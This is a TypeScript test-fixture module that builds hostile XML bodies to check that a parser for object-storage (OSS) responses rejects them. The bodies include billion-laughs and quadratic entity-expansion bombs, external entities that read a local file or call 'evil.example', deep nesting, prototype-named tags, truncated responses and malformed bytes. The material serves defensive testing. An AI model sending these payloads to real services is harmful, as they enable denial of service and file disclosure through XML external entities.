import { maxXmlBytes } from '../../main/oss/responses/xml-screen.ts';

/** A body that a server may send in the place of XML of OSS, and what it is in words. */
export type HostileBody = readonly [what: string, body: Uint8Array];

const utf8 = new TextEncoder();

function text(what: string, body: string): HostileBody {
  return [what, utf8.encode(body)];
}

/** Every document that is whole, around the root that is expected. */
function documents(root: string): readonly HostileBody[] {
  const inner = '<UploadId>U</UploadId>';
  const declare = (subset: string) => `<!DOCTYPE ${root} [${subset}]>`;
  const laughs = Array.from(
    { length: 10 },
    (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
  ).join('');
  const wide = `<!ENTITY a "${'x'.repeat(10_000)}">`;
  return [
    text('a billion laughs', `${declare(`<!ENTITY l0 "l">${laughs}`)}<${root}>&l10;</${root}>`),
    text('a quadratic blow-up', `${declare(wide)}<${root}>${'&a;'.repeat(10_000)}</${root}>`),
    text(
      'an entity that reads a file',
      `${declare('<!ENTITY x SYSTEM "file:etc">')}<${root}><UploadId>&x;</UploadId></${root}>`,
    ),
    text(
      'an entity that asks a server',
      `${declare('<!ENTITY x SYSTEM "http://evil.example/">')}<${root}>&x;</${root}>`,
    ),
    text(
      'a parameter entity',
      `${declare('<!ENTITY % x SYSTEM "http://evil.example/x">%x;')}<${root}/>`,
    ),
    text(
      'a document type of its own',
      `<!DOCTYPE ${root} SYSTEM "x.dtd"><${root}>${inner}</${root}>`,
    ),
    text('a document type in small letters', `<!doctype ${root}><${root}>${inner}</${root}>`),
    text('an element declaration', `<${root}><!ELEMENT x ANY>${inner}</${root}>`),
    text('a notation', `<${root}><!NOTATION x SYSTEM "x">${inner}</${root}>`),
    text('nine levels', `<${root}>${'<a>'.repeat(9)}${'</a>'.repeat(9)}</${root}>`),
    text('100,000 levels', `<${root}>${'<a>'.repeat(100_000)}`),
    text('100,000 levels that end', `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`),
    text('more than 1 MiB of text', `<${root}><a>${'x'.repeat(maxXmlBytes)}</a></${root}>`),
    text('more than 1 MiB of blanks', `<${root}>${inner}</${root}>${' '.repeat(maxXmlBytes)}`),
    text('200,000 elements', `<${root}>${'<a/>'.repeat(280_000)}</${root}>`),
    text('1 MiB of a comment', `<${root}><!--${'-x'.repeat(maxXmlBytes / 2)}-->${inner}</${root}>`),
    text('a comment that does not end', `<${root}>${inner}<!--</${root}>`),
    text('a CDATA section that does not end', `<${root}><![CDATA[${inner}</${root}>`),
    text('an instruction that does not end', `<?xml <${root}>${inner}</${root}>`),
    text('two roots', `<${root}>${inner}</${root}><${root}>${inner}</${root}>`),
    text('tags that do not match', `<${root}><a></b></${root}>`),
    text('tags that end in the wrong order', `<${root}><a><b></a></b></${root}>`),
    text('an end too many', `<${root}></a></${root}>`),
    text('an end first', `</${root}><${root}>${inner}</${root}>`),
    text('attributes inside', `<${root}><a b="c">${inner}</a></${root}>`),
    text('an attribute that does not end', `<${root} a="b>${inner}</${root}>`),
    text('an attribute with markup in it', `<${root} a="<b>">${inner}</${root}>`),
    text('a prefix', `<x:${root} xmlns:x="y">${inner}</x:${root}>`),
    text('the root in small letters', `<${root.toLowerCase()}>${inner}</${root.toLowerCase()}>`),
    text('the root inside another', `<a><${root}>${inner}</${root}></a>`),
    text('a bare ampersand', `<${root}><UploadId>a & b</UploadId><a></${root}>`),
  ];
}

/** What is no document at all. */
const noDocuments: readonly HostileBody[] = [
  text('nothing', ''),
  text('blanks', ' \r\n\t'),
  text('text', 'It works!'),
  text('the page of a captive portal', '<html><body><form>Sign in</form></body></html>'),
  text('a page with a script', '<!doctype html><script>alert(1)</script>'),
  text('JSON', '{"UploadId":"U"}'),
  text('the name of an object property', '<__proto__><UploadId>U</UploadId></__proto__>'),
  text('another property', '<constructor><prototype>U</prototype></constructor>'),
  text('a tag that does not end', '<InitiateMultipartUploadResult'),
  text('an opening bracket', '<'),
  text('many opening brackets', '<'.repeat(100_000)),
  text('many ampersands', '&'.repeat(100_000)),
  text('many ends', '</a>'.repeat(100_000)),
  text('NUL', '\0\0\0\0'),
  text('an HTTP answer in an answer', 'HTTP/1.1 200 OK\r\n\r\n<ListPartsResult/>'),
  ['no UTF-8', Uint8Array.of(0xff, 0xfe, 0x3c, 0x00, 0x61, 0x00, 0x3e, 0x00)],
  ['compressed bytes', Uint8Array.of(0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00)],
  ['overlong UTF-8', Uint8Array.of(0xc0, 0xbc, 0x61, 0xc0, 0xbe)],
  ['8 MiB of zeros', new Uint8Array(8 * 1024 * 1024)],
];

/**
 * Bodies that OSS never sends for an operation whose success has this root: broken, enormous,
 * foreign, or a real answer cut off at any place.
 *
 * @param whole a response that would be believed
 */
export function hostileBodies(root: string, whole: string): readonly HostileBody[] {
  const step = Math.max(1, Math.floor(whole.length / 40));
  const cuts = Array.from({ length: Math.floor((whole.length - 1) / step) }, (_, index) =>
    text(`cut after ${(index + 1) * step} characters`, whole.slice(0, (index + 1) * step)),
  );
  const others = [
    'Error',
    'ListPartsResult',
    'InitiateMultipartUploadResult',
    'CompleteMultipartUploadResult',
    'ListAllMyBucketsResult',
    'ListBucketResult',
    'html',
  ].filter((other) => other !== root);
  const foreign = others.map((other) => text(`a ${other}`, whole.replaceAll(root, other)));
  return [...documents(root), ...noDocuments, ...foreign, ...cuts];
}
